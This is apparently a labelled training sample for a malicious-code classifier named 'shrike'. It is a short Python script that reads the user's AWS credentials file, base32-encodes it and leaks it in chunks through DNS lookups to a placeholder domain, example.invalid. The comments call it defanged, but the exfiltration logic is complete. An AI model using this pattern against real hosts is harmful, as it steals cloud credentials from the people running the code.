# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import socket, base64, os
secret = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
enc = base64.b32encode(secret).decode().rstrip("=").lower()
for i in range(0, len(enc), 60):
    try:
        socket.gethostbyname(f"{enc[i:i+60]}.{i}.x.example.invalid")
    except socket.gaierror:
        pass
